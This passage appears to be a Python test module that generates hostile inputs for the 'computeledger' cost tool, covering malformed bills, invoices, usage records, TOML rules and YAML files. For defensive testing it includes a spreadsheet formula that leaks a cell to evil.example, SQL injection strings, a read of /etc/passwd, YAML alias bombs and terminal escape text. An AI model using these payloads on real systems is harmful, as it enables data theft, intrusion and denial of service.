"""The hostile-input corpus (issue 14): bad bills, invoices, usage, rules, mappings, figures,
demand files, contracts, scenarios, budgets, ledger files and command-line arguments, each
with what computeledger must do with it.

Generated, not stored, so the repository stays small: `python -m tests.hostile.corpus OUT`
writes every case's files and a `cases.json` manifest into OUT; the tests generate the same
cases into a temporary folder.

A case names its files (bytes), the command lines to run (`{d}`: the case's folder,
`{ledger}`: its copy of a base ledger, `{contracts}`: the lab's contracts) and its outcome:

- "refused": exit 1 or 2, one clear message naming what `says` lists; the ledger's data as
  it was (a refused ingest adds only an `ingests` row saying so).
- "partial": exit 0; for every new ingest, rows read = loaded + quarantined, and the line
  `line` is quarantined with a reason naming the column (`says`).
- "ok": exit 0, with what `says` lists in the output (and, for bills, `value` loaded exactly).
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import sys
from dataclasses import asdict, dataclass, field
from decimal import Decimal
from importlib.resources import files
from pathlib import Path

SAMPLE = Path(str(files("computeledger") / "data" / "focus_sample.csv"))


@dataclass(frozen=True)
class Case:
    id: str
    kind: str
    steps: tuple[tuple[str, ...], ...]
    files: tuple[tuple[str, bytes], ...] = ()
    outcome: str = "refused"
    says: tuple[str, ...] = ()
    line: int | None = None
    base: str = "sample"  # the ledger copied to {ledger}: "sample" (the FOCUS sample) or "lab"
    value: str | None = None  # "ok" bills: BilledCost of the mutated row, exactly
    slow: bool = False
    extra: dict = field(default_factory=dict)


# -- values --------------------------------------------------------------------------------
#: Text that is not a number the ledger accepts (grammar: docs/design.md).
BAD_NUMBERS = {
    "underscore": "1_000",
    "underscore_places": "0.123456789012345678_9",
    "underscore_exponent": "1e-1_9",
    "nan": "NaN",
    "nan_lower": "nan",
    "inf": "inf",
    "neg_inf": "-inf",
    "infinity": "Infinity",
    "huge_exponent": "1e400",
    "tiny_exponent": "1e-400",
    "21_digits": "9" * 21,
    "1e20": "1E20",
    # past the 18th place values are rounded with their residue kept, to the 38th place
    "39_places": "0." + "1" * 39,
    "39_places_exp": "1.5e-39",
    "hex": "0x10",
    "arabic_digits": "\u0661\u0662\u0663",
    "comma_decimal": "12,5",
    "currency": "$12",
    "two_points": "1.2.3",
    "double_minus": "--1",
    "plus_minus": "+-1",
    "bare_exponent": "1e",
    "point": ".",
    "exponent_only": "e5",
    "inner_space": "1 000",
    "trailing_text": "12abc",
    "vulgar_half": "\u00bd",
    "nbsp": "1\u00a0000",
    "binary": "0b101",
    "true": "true",
    "list": "[1]",
    "fraction": "1/2",
    "percent": "12%",
    "parenthesised": "(12)",
    "5000_digits": "9" * 5000,
    "exponent_beyond_400": "0e-401",
}
#: Numbers the ledger accepts, and the exact value each is.
GOOD_NUMBERS = {
    "plain": ("12", "12"),
    "negative": ("-12.5", "-12.5"),
    "plus": ("+3", "3"),
    "exponent": ("1e2", "100"),
    "exponent_negative": ("1.5E-3", "0.0015"),
    "one_atto": ("0.000000000000000001", "0.000000000000000001"),
    "widest": ("99999999999999999999.999999999999999999", "99999999999999999999.999999999999999999"),
    "leading_zero": ("012", "12"),
    "padded": (" 12.5 ", "12.5"),
    # E notation is the plain decimal it denotes, however many digits it is written with
    "exponent_wide": ("571252842440264217767474.0E-9", "571252842440264.217767474"),
    "exponent_deep": ("0." + "0" * 40 + "1e40", "0.1"),
    "exponent_shift": ("0." + "0" * 30 + "1e34", "1000"),
    "exponent_zeros": ("1.50000000000000000000e0", "1.5"),
    # digits past the 18th place round half-even (the residue is kept on the row)
    "19_places": ("0.1234567890123456789", "0.123456789012345679"),
    "19_places_exp": ("1.5e-19", "0"),
    "tie_to_even": ("0.0000000000000000025", "0.000000000000000002"),
    "azure_28_places": ("20.8918475604496506225574325494", "20.891847560449650623"),
    "negative_rounded": ("-0.0034943549999999998", "-0.003494355"),
}
BAD_TIMES = {
    "pst": "2024-09-18 22:00:00 PST",
    "est": "2024-09-18T22:00:00 EST",
    "month_13": "2024-13-18T22:00:00Z",
    "feb_30": "2024-02-30T22:00:00Z",
    "word": "yesterday",
    "epoch_huge": "1e17",
    "hour_25": "2024-09-18T25:00:00Z",
    "year_0": "0000-09-18T22:00:00Z",
    "year_5_digits": "10000-09-18T22:00:00Z",
    "offset_25": "2024-09-18T22:00:00+25:00",
    "bracket_zone": "2024-09-18T22:00:00Z[UTC]",
    "iso_week": "2024-W38",
    "olson": "2024-09-18T22:00:00America/New_York",
    "markup": "[/]",
    "empty": "",
}
#: Text values that load as they are and must come out as data, never as markup or formulas.
ODD_TEXT = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus_formula": "+1+1",
    "at_formula": "@SUM(A1)",
    "markup_close": "[/]",
    "markup_bold": "[bold red]boom[/]",
    "ansi": "\x1b[31mred\x1b[0m",
    "rtl_override": "abc\u202edcba",
    "bell": "ring\x07",
    "long": "x" * 100_000,
    "sql": "x'); DROP TABLE charges; --",
}


# -- builders ------------------------------------------------------------------------------
def _csv(header: list[str], rows: list[list[str]]) -> bytes:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue().encode("utf-8")


def _bill() -> tuple[list[str], list[list[str]]]:
    """Four rows of the FOCUS sample (lines 2-5), under an account of their own."""
    with SAMPLE.open(newline="", encoding="utf-8-sig") as f:
        rows = list(csv.reader(f))
    header, body = rows[0], [list(r) for r in rows[1:5]]
    account = header.index("BillingAccountId")
    for r in body:
        r[account] = "hostile-account"
    return header, body


def _mutated(column: str, value: str, line: int = 3) -> bytes:
    header, body = _bill()
    body[line - 2][header.index(column)] = value
    return _csv(header, body)


INVOICE_HEADER = [
    "invoice_id",
    "provider",
    "account_id",
    "account_name",
    "currency",
    "period_start",
    "period_end",
    "usage_start",
    "usage_end",
    "region",
    "cluster",
    "instance_type",
    "instance_hours",
    "rate_usd",
    "list_rate_usd",
    "description",
    "tags",
]


def _invoice(column: str | None = None, value: str = "") -> bytes:
    rows = []
    for i in range(3):
        row = {
            "invoice_id": "INV-H",
            "provider": "CoreWeave",
            "account_id": "hostile",
            "account_name": "H",
            "currency": "USD",
            "period_start": "2025-01-01",
            "period_end": "2025-02-01",
            "usage_start": f"2025-01-0{i + 1}T00:00:00Z",
            "usage_end": f"2025-01-0{i + 2}T00:00:00Z",
            "region": "US-EAST-04",
            "cluster": "c1",
            "instance_type": "gd-8xh100ib-i128",
            "instance_hours": "10.5",
            "rate_usd": "35.12",
            "list_rate_usd": "49.24",
            "description": "d",
            "tags": "{}",
        }
        if i == 1 and column:
            row[column] = value
        rows.append([row[c] for c in INVOICE_HEADER])
    return _csv(INVOICE_HEADER, rows)


def _usage_record(**change) -> dict:
    record = {
        "object": "organization.usage.completions.result",
        "start_time": 1704067200,
        "end_time": 1704153600,
        "project_id": "acme",
        "model": "swift-s",
        "num_model_requests": 10,
        "input_tokens": 1000,
        "input_cached_tokens": 100,
        "output_tokens": 200,
        "output_reasoning_tokens": 0,
        "batch": False,
        "metadata": {"channel": "api"},
    }
    record.update(change)
    return record


def _usage(middle: bytes) -> bytes:
    first = json.dumps(_usage_record()).encode()
    last = json.dumps(_usage_record(start_time=1704153600, end_time=1704240000)).encode()
    return first + b"\n" + middle + b"\n" + last + b"\n"


def _span(attributes: list[dict], start: str = "1704067200000000000") -> dict:
    return {
        "traceId": "d709748fa3886afd3b757132e290c108",
        "spanId": "d1f717da768c2ad6",
        "name": "chat m",
        "kind": 2,
        "startTimeUnixNano": start,
        "endTimeUnixNano": "1704153600000000000",
        "attributes": attributes,
    }


def _otlp(tokens: dict | None = None, start: str = "1704067200000000000") -> bytes:
    def attrs(value):
        return [
            {"key": "gen_ai.request.model", "value": {"stringValue": "swift-s"}},
            {"key": "gen_ai.usage.input_tokens", "value": value},
            {"key": "gen_ai.usage.output_tokens", "value": {"intValue": "20"}},
        ]

    good = _span(attrs({"intValue": "100"}))
    bad = _span(attrs(tokens or {"intValue": "100"}), start)
    doc = {"resourceSpans": [{"resource": {}, "scopeSpans": [{"scope": {}, "spans": [good, bad]}]}]}
    return json.dumps(doc).encode()


USAGE_CSV_HEAD = "date,model,project_id,channel,num_model_requests,prompt_tokens,completion_tokens\n"

RULE = '[[rules]]\nname = "r"\nmatch = { ResourceName = %s }\nset = { workload = "inference" }\n'
FIGURES_HEAD = "id,entity,metric,period,scope,value\n"
DEMAND = (
    "- {model: Llama-3.3-70B, input_tokens_per_day: %s, output_tokens_per_day: 1, "
    "input_per_request: 1000, output_per_request: 100}\n"
)


def _bomb(key: str) -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 10)]
    return "\n".join(lines) + f"\n{key}\n"


def _inner_bomb() -> str:
    """A flow list of nine levels of nine aliases each: harmless as parsed, 9**9 items to
    whatever walks it (a figure's note, a demand's name)."""
    levels = ["&a0 [x, x, x, x, x, x, x, x, x]"]
    levels += [f"&a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 10)]
    return "[" + ", ".join(levels) + "]"


def _mapping(extra: str, replace: tuple[str, str] | None = None) -> bytes:
    text = (files("computeledger") / "data" / "mappings" / "gpu_cloud_invoice.toml").read_text()
    if replace:
        text = text.replace(*replace)
    return (text + "\n" + extra).encode()


# -- the cases -----------------------------------------------------------------------------
def _every_or_some(values: dict, every: bool) -> list:
    """All the values for the first column of a kind; every fifth for the others, which
    the same code reads (the corpus stays quick to run)."""
    items = list(values.items())
    return items if every else items[::5]


def _bills() -> list[Case]:
    ingest = ("ingest", "--ledger", "{ledger}", "{d}/bill.csv")
    out = []
    for column in ("BilledCost", "EffectiveCost", "ListCost"):
        for name, value in _every_or_some(BAD_NUMBERS, column == "BilledCost"):
            out.append(
                Case(
                    f"bill-{column}-{name}",
                    "bills",
                    (ingest,),
                    (("bill.csv", _mutated(column, value)),),
                    "partial",
                    (column,),
                    line=3,
                )
            )
    for name, (value, exact) in GOOD_NUMBERS.items():
        out.append(
            Case(
                f"bill-good-{name}",
                "bills",
                (ingest,),
                (("bill.csv", _mutated("BilledCost", value)),),
                "ok",
                value=exact,
            )
        )
    for column in ("ChargePeriodStart", "BillingPeriodStart"):
        for name, value in _every_or_some(BAD_TIMES, column == "ChargePeriodStart"):
            out.append(
                Case(
                    f"bill-{column}-{name}",
                    "bills",
                    (ingest,),
                    (("bill.csv", _mutated(column, value)),),
                    "partial",
                    (column,),
                    line=3,
                )
            )
    for name, value in ODD_TEXT.items():
        steps = (
            ingest,
            ("summary", "--ledger", "{ledger}", "--by", "service", "--format", "csv"),
            ("charges", "--ledger", "{ledger}", "--format", "table"),
        )
        out.append(
            Case(
                f"bill-text-{name}",
                "bills",
                steps,
                (("bill.csv", _mutated("ServiceName", value)),),
                "ok",
                extra={"text": value},
            )
        )
    header, body = _bill()
    good = _csv(header, body)
    lines = good.decode().splitlines(keepends=True)
    structural = {
        "unterminated_quote": (
            "partial",
            lines[0] + lines[1] + lines[2] + '"' + lines[3].rstrip("\n")[:-5],
            4,
        ),
        "extra_field": (
            "partial",
            "".join(lines[:2]) + lines[2].rstrip("\n") + ",extra\n" + "".join(lines[3:]),
            3,
        ),
        "short_row": ("partial", "".join(lines[:2]) + "a,b,c\n" + "".join(lines[3:]), 3),
        "nul_in_value": (
            "partial",
            "".join(lines[:2]) + lines[2].replace("Usage", "Us\x00age", 1) + "".join(lines[3:]),
            3,
        ),
    }
    for name, (outcome, text, line) in structural.items():
        out.append(
            Case(f"bill-{name}", "bills", (ingest,), (("bill.csv", text.encode()),), outcome, line=line)
        )
    refused = {
        "empty": b"",
        "bom_only": b"\xef\xbb\xbf",
        "garbage": bytes(range(256)) * 4,
        "not_focus": b"a,b,c\n1,2,3\n",
        "utf16": good.decode().encode("utf-16"),
        "duplicate_column": _csv([*header, "BilledCost"], [[*r, "1"] for r in body]),
        "1100_columns": _csv([*header, *[f"c{i}" for i in range(1100)]], [[*r, *["1"] * 1100] for r in body]),
        "missing_billed_cost": _csv(
            [h for h in header if h != "BilledCost"],
            [[v for h, v in zip(header, r, strict=True) if h != "BilledCost"] for r in body],
        ),
        "huge_field": "".join(lines[:2]).encode() + b'"' + b"x" * 2_000_000 + b'"' + lines[2].encode()[1:],
        "json": b'{"BilledCost": 1}\n',
        "html": b"<html><body>not a bill</body></html>\n",
    }
    for name, data in refused.items():
        out.append(
            Case(f"bill-refused-{name}", "bills", (ingest,), (("bill.csv", data),), "refused", ("bill.csv",))
        )
    out.append(
        Case(
            "bill-strict",
            "bills",
            (("ingest", "--strict", "--ledger", "{ledger}", "{d}/bill.csv"),),
            (("bill.csv", _mutated("BilledCost", "abc")),),
            "refused",
            ("bill.csv",),
        )
    )
    truncated = gzip.compress(good)[:-20]
    for name, fname, data in (
        ("truncated_gzip", "bill.csv.gz", truncated),
        ("gzip_of_garbage", "bill.csv.gz", gzip.compress(bytes(range(256)))),
        ("not_gzip", "bill.csv.gz", good),
        ("bad_parquet", "bill.parquet", b"PAR1" + b"\x00" * 100 + b"PAR1"),
        ("empty_parquet", "bill.parquet", b""),
    ):
        out.append(
            Case(
                f"bill-{name}",
                "bills",
                (("ingest", "--ledger", "{ledger}", f"{{d}}/{fname}"),),
                ((fname, data),),
                "refused",
                (fname,),
            )
        )
        out.append(
            Case(
                f"validate-{name}",
                "bills",
                (("validate", f"{{d}}/{fname}"),),
                ((fname, data),),
                "refused",
                (fname,),
            )
        )
        out.append(
            Case(
                f"convert-{name}",
                "bills",
                (("convert", "--out", "{d}/out", f"{{d}}/{fname}"),),
                ((fname, data),),
                "refused",
                (fname,),
            )
        )
    for name, fname in (
        ("glob_star", "b*.csv"),
        ("glob_class", "b[12].csv"),
        ("markup_name", "[/]bill.csv"),
        ("bold_name", "[bold]bill.csv"),
        ("space_quote", "my \"bill\" 'x'.csv"),
        ("newline_name", "bill\nname.csv"),
        ("non_utf8", os.fsdecode(b"bill-\xff.csv")),
    ):
        files_ = ((fname, good), ("b1.csv", _mutated("BilledCost", "abc")))
        out.append(
            Case(
                f"bill-name-{name}",
                "bills",
                (("ingest", "--ledger", "{ledger}", f"{{d}}/{fname}"),),
                files_,
                "ok",
                extra={"rows": 4},
            )
        )
    out.append(
        Case(
            "bill-folder-with-glob-names",
            "bills",
            (("ingest", "--ledger", "{ledger}", "{d}/in"),),
            (("in/b*.csv", good), ("in/b1.csv", good.replace(b"hostile-account", b"other-account"))),
            "ok",
            extra={"rows": 8},
        )
    )
    out.append(
        Case(
            "bill-missing-file",
            "bills",
            (("ingest", "--ledger", "{ledger}", "{d}/nowhere.csv"),),
            (),
            "refused",
            ("nowhere.csv",),
        )
    )
    both = _csv([*header, "x_colour", "colour"], [[*r, "a", "b"] for r in body])
    out.append(
        Case(
            "bill-x-and-plain-column",
            "bills",
            (("ingest", "--ledger", "{ledger}", "{d}/bill.csv"),),
            (("bill.csv", both),),
            "ok",
            extra={"extensions": {"x_colour": "a", "x_colour_2": "b"}},
        )
    )
    return out


def _mapped() -> list[Case]:
    ingest = ("ingest", "--ledger", "{ledger}", "--mapping", "gpu-cloud-invoice", "{d}/inv.csv")
    out = []
    for column in ("instance_hours", "rate_usd"):
        for name, value in _every_or_some(BAD_NUMBERS, column == "instance_hours"):
            out.append(
                Case(
                    f"mapped-{column}-{name}",
                    "mapped",
                    (ingest,),
                    (("inv.csv", _invoice(column, value)),),
                    "partial",
                    ("BilledCost", column),
                    line=3,
                )
            )
    out.append(
        Case(
            "mapped-exponent",
            "mapped",
            (ingest,),
            (("inv.csv", _invoice("rate_usd", "1e2")),),
            "ok",
            value="1050.0",  # E notation is written out digit for digit: 10.5 h at 100
        )
    )
    out.append(
        Case(
            "mapped-18-places",
            "mapped",
            (ingest,),
            (("inv.csv", _invoice("rate_usd", "1.123456789012345678")),),
            "partial",
            ("beyond 18 places",),
            line=3,
        )
    )
    out.append(
        Case(
            "mapped-missing-column",
            "mapped",
            (ingest,),
            (("inv.csv", b"invoice_id,provider\nI,C\n"),),
            "refused",
            ("account_id",),
        )
    )
    return out


def _mappings() -> list[Case]:
    run = ("ingest", "--ledger", "{ledger}", "--mapping", "{d}/m.toml", "{d}/inv.csv")
    texts = {
        "round_text": (_mapping('x_test = "ROUND(rate_usd, 2)"'), "cannot be computed"),
        "abs_text": (_mapping('x_test = "ABS(instance_hours)"'), "cannot be computed"),
        "read_csv": (_mapping("x_test = \"read_csv('/etc/passwd')\""), "not allowed"),
        "subquery": (_mapping('x_test = "(SELECT 1)"'), "not allowed"),
        "deep_parens": (_mapping('x_test = "' + "(" * 40 + "rate_usd" + ")" * 40 + '"'), "parentheses deep"),
        "long_chain": (_mapping('x_test = "' + " + ".join(["rate_usd"] * 40) + '"'), "arithmetic operators"),
        "long_text": (_mapping('x_test = "' + "rate_usd + " * 300 + '1"'), "at most 2000 characters"),
        "division_by_three": (
            _mapping("", ('"instance_hours * rate_usd"', '"instance_hours * rate_usd / 3"')),
            "power of ten",
        ),
        "missing_catalog": (_mapping('[gpu]\ncatalog = "nowhere.csv"'), "no such file"),
        "deep_toml": (b"x = " + b"[" * 5000 + b"]" * 5000 + b"\n", "m.toml"),
        "not_toml": (b"this is not toml ===\n", "m.toml"),
        "binary": (bytes(range(256)), "m.toml"),
        "unknown_section": (_mapping('[sql]\nx = "drop table charges"'), "unknown section"),
        "not_focus_column": (b'[columns]\nColour = "c"\n', "not a FOCUS column"),
        "table_column": (_mapping('x_test = "charges.BilledCost"'), "plain names"),
        "pragma": (_mapping("x_test = \"current_setting('threads')\""), "not allowed"),
        "markup_name": (b'name = "[/]"\n[columns]\nColour = "c"\n', "not a FOCUS column"),
        "empty": (b"", "m.toml"),
    }
    return [
        Case(
            f"mapping-{name}",
            "mapping",
            (run,),
            (("m.toml", text), ("inv.csv", _invoice())),
            "refused",
            (says,),
        )
        for name, (text, says) in texts.items()
    ]


def _usage_cases() -> list[Case]:
    ingest = ("ingest-usage", "--ledger", "{ledger}", "{d}/u.jsonl")
    out = []
    counts = {
        "abc": "abc",
        "1e30": 1e30,
        "2.5": 2.5,
        "neg": -1,
        "string_num": "12x",
        "true": True,
        "list": [1],
        "object": {"a": 1},
        "huge_int": 10**40,
        "null_str": "null",
    }
    for field_ in ("input_tokens", "output_tokens", "input_cached_tokens", "num_model_requests"):
        for name, value in counts.items():
            if field_ in ("input_cached_tokens", "num_model_requests") and name not in ("neg", "abc", "2.5"):
                continue
            line = json.dumps(_usage_record(**{field_: value})).encode()
            named = {"input_cached_tokens": "cached_input_tokens", "num_model_requests": "requests"}
            out.append(
                Case(
                    f"usage-{field_}-{name}",
                    "usage",
                    (ingest,),
                    (("u.jsonl", _usage(line)),),
                    "partial",
                    (named.get(field_, field_),),
                    line=2,
                )
            )
    lines = {
        "start_1e17": (json.dumps(_usage_record(start_time=1e17)).encode(), "start"),
        "start_text": (json.dumps(_usage_record(start_time="monday")).encode(), "start"),
        "start_negative": (json.dumps(_usage_record(start_time=-5)).encode(), "start"),
        "bad_utf8": (b'{"model": "\xff\xfe"}', ""),
        "control_byte": (json.dumps(_usage_record(model="a\x01b")).encode().replace(b"\\u0001", b"\x01"), ""),
        "not_json": (b"{", ""),
        "array": (b"[1, 2, 3]", ""),
        "null": (b"null", ""),
        "deep_json": (b"[" * 100_000 + b"]" * 100_000, ""),
        "missing_model": (
            json.dumps({k: v for k, v in _usage_record().items() if k != "model"}).encode(),
            "model",
        ),
        "long_line": (json.dumps(_usage_record(model="m" * 5_000_000)).encode(), ""),
    }
    for name, (line, says) in lines.items():
        out.append(
            Case(
                f"usage-line-{name}",
                "usage",
                (ingest,),
                (("u.jsonl", _usage(line)),),
                "partial",
                (says,) if says else (),
                line=2,
            )
        )
    otlp = ("ingest-usage", "--ledger", "{ledger}", "{d}/spans.json")
    for name, (tokens, start) in {
        "int_text": ({"intValue": "abc"}, "1704067200000000000"),
        "double": ({"doubleValue": 123.0}, "1704067200000000000"),
        "negative": ({"intValue": "-5"}, "1704067200000000000"),
        "string": ({"stringValue": "100"}, "1704067200000000000"),
        "start_1e23": ({"intValue": "100"}, "1" + "0" * 23),
        "start_text": ({"intValue": "100"}, "soon"),
    }.items():
        out.append(Case(f"otlp-{name}", "usage", (otlp,), (("spans.json", _otlp(tokens, start)),), "partial"))
    whole, export = "not one whole JSON document", "not an OTLP JSON export"
    for name, (data, why) in {
        "truncated": (_otlp()[:-10], whole),
        "not_json": (b"hello", whole),
        "empty": (b"", "spans.json"),
        "list": (b"[]", export),
        "other_object": (b'{"spans": []}', export),
    }.items():
        out.append(
            Case(
                f"otlp-refused-{name}",
                "usage",
                (otlp,),
                (("spans.json", data),),
                "refused",
                ("spans.json", why),
            )
        )
    gateway = ("ingest-usage", "--ledger", "{ledger}", "{d}/gateway.csv")
    for name, row in {
        "tokens_text": "2025-03-02,gpt-x,acme,api,5,abc,10",
        "tokens_exp": "2025-03-02,gpt-x,acme,api,5,1e30,10",
        "tokens_fraction": "2025-03-02,gpt-x,acme,api,5,2.5,10",
        "requests_negative": "2025-03-02,gpt-x,acme,api,-1,100,10",
        "date_pst": "2025-03-02 00:00:00 PST,gpt-x,acme,api,5,100,10",
        "date_month_13": "2025-13-02,gpt-x,acme,api,5,100,10",
        "no_model": "2025-03-02,,acme,api,5,100,10",
    }.items():
        text = USAGE_CSV_HEAD + "2025-03-01,gpt-x,acme,api,10,1000,200\n" + row + "\n"
        out.append(
            Case(
                f"usage-csv-{name}", "usage", (gateway,), (("gateway.csv", text.encode()),), "partial", line=3
            )
        )
    return out


def _documents() -> list[Case]:
    """Revenue invoices and bank statements with bad amounts and dates."""
    out = []
    head = "invoice_id,customer,channel,period_start,period_end,issued_on,due_on,model,item,quantity,unit,unit_price,amount,currency\n"  # noqa: E501
    good = "INV-1,acme,api,2024-01-01,2024-02-01,2024-02-01,2024-03-02,swift-s,input,1000,1M tokens,0.15,150.00,USD\n"  # noqa: E501
    cols = head.strip().split(",")
    for name, value in [*list(BAD_NUMBERS.items())[:12], ("pst", "2024-02-01 00:00:00 PST")]:
        column = "issued_on" if name == "pst" else "amount"
        row = good.strip().split(",")
        row[cols.index(column)] = value
        text = head + good + _csv(cols, [row]).decode().split("\n", 1)[1]
        out.append(
            Case(
                f"revenue-{column}-{name}",
                "revenue",
                (("ingest-revenue", "--ledger", "{ledger}", "{d}/invoices.csv"),),
                (("invoices.csv", text.encode()),),
                "partial",
                (column,),
                line=3,
            )
        )
    bank_head = "date,counterparty,kind,reference,amount,currency\n"
    opening = "2024-01-01,,opening_balance,,40000000.00,USD\n"
    for name, value in [*list(BAD_NUMBERS.items())[:12], ("month_13", "2024-13-01")]:
        column = "date" if name == "month_13" else "amount"
        row = ["2024-01-05", "Microsoft", "compute", "ref", "-100.00", "USD"]
        row[["date", "counterparty", "kind", "reference", "amount", "currency"].index(column)] = value
        text = bank_head + opening + _csv(["a"], [row]).decode().split("\n", 1)[1]
        out.append(
            Case(
                f"cash-{column}-{name}",
                "cash",
                (("ingest-cash", "--ledger", "{ledger}", "{d}/bank.csv"),),
                (("bank.csv", text.encode()),),
                "partial",
                (column,),
                line=3,
            )
        )
    return out


def _rules() -> list[Case]:
    run = ("allocate", "--ledger", "{ledger}", "--rules", "{d}/rules.toml")
    texts = {
        "unclosed": RULE % '"(unclosed"',
        "backreference": RULE % r"'(a)\1'",
        "lookahead": RULE % "'^(?=a)a'",
        "lookbehind": RULE % "'(?<=a)b'",
        "verbose": RULE % "'(?x) a'",
        "possessive": RULE % "'a++'",
        "unknown_dimension": '[[rules]]\nname = "t"\nset = { wrokload = "training" }\n',
        "bad_workload": '[[rules]]\nname = "w"\nset = { workload = "serving" }\n',
        "no_name": "[[rules]]\nset = { team = 'x' }\n",
        "twice": '[[rules]]\nname = "a"\nset = { team = "x" }\n[[rules]]\nname = "a"\nset = { team = "y" }\n',
        "unknown_column": '[[rules]]\nname = "c"\n'
        'match = { "ResourceName\\"; DROP TABLE charges; --" = "x" }\nset = { workload = "inference" }\n',
        "template_attr": '[[rules]]\nname = "g"\nset = { model = "{__class__}" }\n',
        "deep_toml": "x = " + "[" * 5000 + "]" * 5000 + "\n",
        "not_toml": "rules = [[[\n",
        "bad_driver": '[[splits]]\nname = "s"\ndriver = "headcount"\n'
        'targets = { workload = ["inference"] }\n',
        "unknown_entry": "rules = 3\nfoo = 1\n",
        "markup_name": '[[rules]]\nname = "[/]"\nset = { wrokload = "x" }\n',
    }
    out = [
        Case(
            f"rules-{name}",
            "rules",
            (run,),
            (("rules.toml", text.encode()),),
            "refused",
            ("rules.toml",),
            base="lab",
        )
        for name, text in texts.items()
    ]
    out.append(
        Case(
            "rules-huge-regex",
            "rules",
            (run,),
            (("rules.toml", (RULE % ('"' + "a" * 200_000 + '"')).encode()),),
            "ok",
            ("charges placed",),
            base="lab",
        )
    )
    out.append(
        Case(
            "rules-binary",
            "rules",
            (run,),
            (("rules.toml", bytes(range(256))),),
            "refused",
            ("rules.toml",),
            base="lab",
        )
    )
    out.append(
        Case(
            "rules-missing",
            "rules",
            (("allocate", "--ledger", "{ledger}", "--rules", "{d}/none.toml"),),
            (),
            "refused",
            ("none.toml",),
            base="lab",
        )
    )
    return out


def _figures() -> list[Case]:
    out = []
    rows = {
        "period_9999_12": ("a,X,costs,9999-12,,1B", "not a period"),
        "period_9999_q4": ("a,X,costs,9999-Q4,,1B", "not a period"),
        "period_month_13": ("a,X,costs,2024-13,,1B", "not a month"),
        "value_5000_digits": ("a,X,costs,2024,," + "9" * 5000, "not an amount"),
        "value_nan": ("a,X,costs,2024,,nan", "not an amount"),
        "value_inf": ("a,X,costs,2024,,inf", "not an amount"),
        "value_text": ("a,X,costs,2024,,12 bananas", "not an amount"),
        "value_underscore": ("a,X,costs,2024,,1_000", "not an amount"),
        "duplicate_id": ("a,X,costs,2024,,1B\na,X,costs,2023,,1B", "used twice"),
    }
    for name, (row, says) in rows.items():
        out.append(
            Case(
                f"figures-csv-{name}",
                "figures",
                (("figures", "check", "{d}/f.csv"),),
                (("f.csv", (FIGURES_HEAD + row + "\n").encode()),),
                "refused",
                ("f.csv", says),
            )
        )
    yamls = {
        "growth_inf": ("assumptions:\n  growth: [0, .inf]\nfigures: []\n", "not a usable number"),
        "growth_nan": ("assumptions:\n  growth: [.nan, 1]\nfigures: []\n", "not a usable number"),
        "growth_scalar": ("assumptions:\n  growth: 5\nfigures: []\n", "growth"),
        "value_nan": (
            "figures:\n- {id: a, entity: X, metric: costs, period: 2024, value: .nan}\n",
            "not an amount",
        ),
        "disputed_nan": ("rules:\n  disputed: .nan\nfigures: []\n", "f.yaml"),
        "deep": ("figures: " + "[" * 5000 + "]" * 5000 + "\n", "nested more than 32 deep"),
        "bomb_note": (_bomb("figures: []"), "anchors and aliases are not read"),
        "bomb_in_note": (
            "figures:\n- {id: a, entity: X, metric: costs, period: 2024, value: 1B, note: "
            + _inner_bomb()
            + "}\n",
            "anchors and aliases are not read",
        ),
        "not_mapping": ("- 1\n- 2\n", "expected a mapping"),
        "unknown_section": ("sql: drop\n", "unknown sections"),
        "unknown_status": ("rules:\n  rumour: 0.5\nfigures: []\n", "unknown status"),
        "binary": ("\x00\x01\x02", "f.yaml"),
        "tabs": ("figures:\n\t- a\n", "f.yaml"),
        "markup": ("figures:\n- {id: '[/]', entity: X, metric: costs, period: 2024, value: 'x[/]'}\n", "[/]"),
        "huge": ("note: '" + "x" * 11_000_000 + "'\n", "f.yaml"),
    }
    for name, (text, says) in yamls.items():
        out.append(
            Case(
                f"figures-yaml-{name}",
                "figures",
                (("figures", "check", "{d}/f.yaml"),),
                (("f.yaml", text.encode()),),
                "refused",
                (says,),
            )
        )
    out.append(
        Case(
            "figures-quoted-newline-line",
            "figures",
            (("figures", "check", "{d}/f.csv"),),
            (("f.csv", (FIGURES_HEAD + 'a,"X\nY",costs,2024,,1B\nb,X,costs,2024,,x\n').encode()),),
            "refused",
            ("line 4",),
        )
    )
    out.append(
        Case(
            "figures-csv-empty-id",
            "figures",
            (("figures", "check", "{d}/f.csv"),),
            (("f.csv", (FIGURES_HEAD + ",X,costs,2024,,1B\n").encode()),),
            "ok",
            ("line-2",),
        )
    )
    out.append(
        Case(
            "figures-missing",
            "figures",
            (("figures", "check", "{d}/none.yaml"),),
            (),
            "refused",
            ("none.yaml",),
        )
    )
    out.append(
        Case(
            "figures-compare-bad",
            "figures",
            (("figures", "compare", "--ledger", "{ledger}", "{d}/f.csv"),),
            (("f.csv", (FIGURES_HEAD + "a,X,costs,9999-12,,1B\n").encode()),),
            "refused",
            ("f.csv",),
            base="lab",
        )
    )
    return out


def _demand() -> list[Case]:
    values = {
        "nan": ".nan",
        "inf": ".inf",
        "neg_inf": "-.inf",
        "digits_400": "9" * 400,
        "text": "lots",
        "negative": "-5",
        "list": "[1, 2]",
    }
    texts = {name: DEMAND % value for name, value in values.items()} | {
        "bomb": _bomb("- {model: x}"),
        "bomb_in_name": (DEMAND % 1).replace(
            "{model: Llama-3.3-70B", "{name: " + _inner_bomb() + ", model: Llama-3.3-70B"
        ),
        "deep": "[" * 5000 + "]" * 5000,
        "not_list": "model: x\n",
        "unknown_model": "- {model: NoSuchModel, input_tokens_per_day: 1, output_tokens_per_day: 1, "
        "input_per_request: 1, output_per_request: 1}\n",
        "missing_key": "- {model: Llama-3.3-70B}\n",
        "empty": "",
    }
    return [
        Case(
            f"demand-{name}",
            "demand",
            (("capacity", "fleet", "{d}/demand.yaml"),),
            (("demand.yaml", text.encode()),),
            "refused",
            ("demand.yaml",),
        )
        for name, text in texts.items()
    ]


def _ledgers() -> list[Case]:
    lab_bytes = b"SQLite format 3\x00" + b"\x00" * 4080
    kinds = {
        "missing_folder": ("{d}/no/such/folder/l.duckdb", ()),
